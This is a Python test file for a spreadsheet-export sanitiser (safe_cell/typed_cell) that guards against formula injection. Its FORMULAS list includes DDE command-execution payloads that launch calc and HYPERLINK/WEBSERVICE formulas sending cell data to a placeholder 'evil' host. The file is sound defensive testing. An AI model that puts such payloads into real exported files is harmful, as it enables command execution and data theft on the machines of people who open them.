"""What a spreadsheet could compute is made a text, and given back as it was typed."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amu_tui.model.formulas import safe_cell, typed_cell
from amu_tui.text import clean

FORMULAS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil/?d="&A1,"click")',
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u2003@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "｜calc",
    "％0A=1",
    "'=1+1",
    "a;=1+1;b",
    "a; =1+1",
    "a;\ufeff+1",
    "a\t-1",
    "a\n=1+1",
    'a";=1+1;"b',
    '=WEBSERVICE("http://evil")',
    "%0A=1+1",
    "|calc",
    "\x00=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u2060\u00ad=1+1",
    '=DDE("cmd","/C calc","A0")',
    "-5",
    "+4712345678",
    "=",
    "-",
    "@",
    "--",
    "−5",
]
PLAIN = [
    *("0001", "1e5", "1-2", "2026-01-01", 'a",=1+1,"b', "", '"=1+1', "Kari; Ola", "a; b - c"),
    *("Møte kl. 9–10", "A/S", "it's", "(=1)", "1 = 1", "x'=1"),
]
COMPUTED = re.compile("[-=+@|%\t\r\n\0＝＋－＠｜％−]")
BLANKS = " \u3000\u2003\ufeff\u200b\u2060\u00ad"
WILD = st.text(st.sampled_from("=+-@|%'\";,\t\r\n\0 \u200b\ufeff＝－−a1"), max_size=12)


@pytest.mark.parametrize("typed", FORMULAS)
def test_what_could_be_computed_gets_an_apostrophe(typed: str) -> None:
    assert safe_cell(typed) != typed
    assert typed_cell(safe_cell(typed)) == typed


@pytest.mark.parametrize("typed", PLAIN)
def test_what_could_not_stays_as_it_is(typed: str) -> None:
    assert safe_cell(typed) == typed
    assert typed_cell(typed) == typed


@given(WILD)
def test_no_part_of_a_cell_is_computed_and_every_text_comes_back(typed: str) -> None:
    safe = safe_cell(typed)
    assert typed_cell(safe) == typed
    for part in re.split("[;\t\r\n]", safe):
        assert not COMPUTED.match(part.lstrip(BLANKS))
    assert safe.count("'") >= typed.count("'")


@given(WILD.map(clean))
def test_cleaned_text_is_safe_too(typed: str) -> None:
    assert typed_cell(safe_cell(typed)) == typed
    assert not COMPUTED.match(safe_cell(typed).lstrip(BLANKS))
